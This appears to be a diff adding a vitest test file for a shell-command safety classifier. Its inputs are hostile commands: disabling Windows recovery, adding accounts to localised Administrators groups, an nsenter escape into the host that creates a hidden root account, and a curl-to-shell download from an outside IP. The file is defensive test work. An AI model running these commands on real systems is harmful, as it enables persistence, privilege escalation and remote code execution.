@@ -1,0 +1,44 @@
+/**
+ * Blind round 19 and real-script set 12: WinRE turned off, localised names of the Administrators group, and a
+ * command run in the host's namespaces through nsenter.
+ */
+import { describe, expect, it } from 'vitest';
+import { decisionOf as decision, evaluateLine } from './family-test-support';
+import type { Shell } from '../types';
+
+const rules = (text: string, shell: Shell) => evaluateLine(text, shell).reasons.map((r) => r.ruleId);
+
+describe('recovery turned off', () => {
+  it('reagentc /disable is blocked with bcdedit recoveryenabled no; its status and enabling are not', () => {
+    expect(rules('reagentc /disable', 'cmd')).toContain('evasion.recovery.disable');
+    expect(rules('reagentc.exe /disable', 'powershell')).toContain('evasion.recovery.disable');
+    expect(decision('reagentc /info', 'cmd')).toBe('allow');
+    expect(decision('reagentc /enable', 'cmd')).toBe('allow');
+  });
+});
+
+describe('the Administrators group under a localised name', () => {
+  it.each([
+    ['net localgroup Администраторы "!USERNAME!" /add', 'cmd'],
+    ['net localgroup Administratoren svc_helpdesk /add', 'cmd'],
+    ['Add-LocalGroupMember -Group "Administrateurs" -Member "CORP\\tech"', 'powershell'],
+  ] as [string, Shell][])('flags %s', (text, shell) => {
+    expect(decision(text, shell)).toBe('flag');
+  });
+
+  it('listing the group is not adding to it', () => {
+    expect(decision('net localgroup Administratoren', 'cmd')).toBe('allow');
+  });
+});
+
+describe('a command nsenter runs', () => {
+  it('an account made in the host namespaces is judged as if run plainly', () => {
+    const text = `nsenter -t 1 -m -u -i -n -p -- bash -c 'useradd -o -u 0 -g 0 -M -s /bin/bash sysd'`;
+    expect(rules(text, 'bash')).toContain('persist.account.create');
+    expect(rules('nsenter --target 1 --mount sh -c "curl -s http://203.0.113.5/x | sh"', 'bash')).toContain('dl.pipe-to-interpreter');
+  });
+
+  it('a look into a container network namespace stays allowed', () => {
+    expect(decision('nsenter -t 4321 -n ip addr show', 'bash')).toBe('allow');
+  });
+});
